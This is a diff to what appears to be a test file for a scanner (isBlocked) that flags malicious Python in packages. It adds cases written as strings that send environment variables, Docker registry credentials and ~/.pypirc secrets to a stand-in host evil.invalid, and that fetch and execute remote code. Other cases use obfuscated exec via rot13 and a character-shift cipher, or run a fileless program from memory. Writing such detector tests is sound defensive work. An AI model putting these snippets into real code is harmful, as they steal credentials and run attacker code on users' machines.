@@ -130,16 +130,55 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
     ],
   ],
   [
+    'settings that have an address for a key',
+    'pkg/a.py',
+    [
+      'import json, os',
+      'def login():',
+      '    with open(os.path.expanduser("~/.docker/config.json")) as file:',
+      '        return json.load(file).get("auths", {}).get("https://index.evil.invalid/v1/")',
+    ],
+    [
+      'import json, os, requests',
+      'def login():',
+      '    with open(os.path.expanduser("~/.docker/config.json")) as file:',
+      '        return requests.post("https://index.evil.invalid/v1/", json=json.load(file).get("auths", {}))',
+    ],
+  ],
+  [
+    'a backup of keys that somebody asks for',
+    'pkg/a.py',
+    [
+      'import subprocess, os',
+      'def backup(target):',
+      '    subprocess.check_call(["rsync", "-a", os.path.expanduser("~/.ssh/id_rsa"), target])',
+    ],
+    [
+      'import subprocess, os',
+      'for key in [open(os.path.expanduser("~/.pypirc")).read()]:',
+      '    subprocess.call(["twine", "upload", "--repository-url", "https://evil.invalid/", "-p", key])',
+    ],
+  ],
+  [
+    'packages that a build installs from where the user gets packages',
+    'setup.py',
+    ['import subprocess, sys', 'subprocess.call([sys.executable, "-m", "pip", "install", "numpy"])'],
+    [
+      'import subprocess, sys',
+      'subprocess.call([sys.executable, "-m", "pip", "install", "-i", "http://evil.invalid/simple", "x"])',
+    ],
+  ],
+  [
     'a thread that nothing starts',
     'pkg/a.py',
     [
       'import os, requests, threading',
-      'def tell(): requests.post("https://evil.invalid", data=dict(os.environ))',
+      'def tell(): return requests.post("https://evil.invalid", data=dict(os.environ)).json()',
       'thread = threading.Thread(target=tell)',
     ],
     [
       'import os, requests, threading',
-      'def tell(): requests.post("https://evil.invalid", data=dict(os.environ))',
+      'def tell(): return requests.post("https://evil.invalid", data=dict(os.environ)).json()',
       'thread = threading.Thread(target=tell)',
       'thread.start()',
     ],
@@ -151,12 +190,12 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
       'import os, requests',
       'reply = input("Send the report? ")',
       'if reply.lower() in ("y", "yes"):',
-      '    requests.post("https://evil.invalid", json=dict(os.environ))',
+      '    print(requests.post("https://evil.invalid", json=dict(os.environ)).text)',
     ],
     [
       'import os, requests',
       'reply = input("Continue? ")',
-      'requests.post("https://evil.invalid", json=dict(os.environ))',
+      'print(requests.post("https://evil.invalid", json=dict(os.environ)).text)',
     ],
   ],
   [
@@ -165,9 +204,9 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
     [
       'if input("?") == "y":',
       '    import os, requests',
-      '    requests.post("https://evil.invalid", json=dict(os.environ))',
+      '    print(requests.post("https://evil.invalid", json=dict(os.environ)).text)',
     ],
-    ['import os, requests', 'requests.post("https://evil.invalid", json=dict(os.environ))'],
+    ['import os, requests', 'print(requests.post("https://evil.invalid", json=dict(os.environ)).text)'],
   ],
   [
     'a repository that a page names',
@@ -190,12 +229,92 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
 test('threads are started whatever they are kept in', () => {
   const lines = [
     'import os, requests, threading',
-    'def tell(): requests.post("https://evil.invalid", data=dict(os.environ))',
+    'def tell(): return requests.post("https://evil.invalid", data=dict(os.environ)).json()',
     'threads = [threading.Thread(target=tell) for _ in range(3)]',
     'for thread in threads:',
     '    getattr(thread, "st" + "art")()',
   ];
   expect(isBlocked('pkg/a.py', lines)).toBe(true);
+});
+
+test.each([
+  [
+    'a class that builds call with anything',
+    'setup.py',
+    [
+      'class Runner:',
+      '    def __init__(self, by=0, *parts):',
+      '        self.text = "".join(parts)',
+      '        exec("".join(chr(ord(one) - by) for one in self.text))',
+      'Runner(1, "qsjou", ")2*")',
+    ],
+  ],
+  [
+    'a dictionary of builtins and a name that is decoded',
+    'pkg/a.py',
+    [
+      'import builtins, codecs',
+      'text = codecs.decode("cevag(1)", "rot13")',
+      '{**globals(), **vars(builtins)}[codecs.decode("rkrp", "rot13")](text)',
+    ],
+  ],
+  [
+    'a program that lies in memory only',
+    'pkg/a.py',
+    [
+      'import ctypes, os',
+      'file = ctypes.CDLL(None).syscall(319, b"", 1)',
+      'os.execve("/proc/self/fd/%d" % file, ["x"], {})',
+    ],
+  ],
+  [
+    'what a decorator gives back',
+    'pkg/a.py',
+    [
+      'import requests',
+      'def cached(ttl=1):',
+      '    def wrap(function):',
+      '        def inner(*args):',
+      '            exec(requests.get("https://evil.invalid/x").text)',
+      '            return function(*args)',
+      '        return inner',
+      '    return wrap',
+    ],
+  ],
+  [
+    'the whole environment, whatever comes of it',
+    'pkg/a.py',
+    [
+      'import os, requests',
+      'def ready():',
+      '    requests.get("https://evil.invalid/" + str(dict(os.environ)))',
+    ],
+  ],
+  [
+    'an archive that is fetched, and a module in it',
+    'pkg/a.py',
+    [
+      'import os, tempfile, urllib.request, zipimport',
+      'def refresh():',
+      '    number, path = tempfile.mkstemp(".zip")',
+      '    with os.fdopen(number, "wb") as file:',
+      '        file.write(urllib.request.urlopen("https://evil.invalid/x").read())',
+      '    zipimport.zipimporter(path).load_module("x")',
+    ],
+  ],
+  [
+    'a program that is fetched, under a name that only its ending tells',
+    'pkg/__init__.py',
+    [
+      'import hashlib, os, runpy, tempfile, urllib.request',
+      'flag = os.path.join(tempfile.gettempdir(), hashlib.md5(b"x").hexdigest())',
+      'with open(flag + ".py", "wb") as file:',
+      '    file.write(urllib.request.urlopen("https://evil.invalid/x").read())',
+      'runpy.run_path(flag + ".py")',
+    ],
+  ],
+])('is followed: %s', (_what, path, lines) => {
+  expect(isBlocked(path, lines)).toBe(true);
 });
 
 test('programs that lie beside modules are run by whoever starts them', () => {
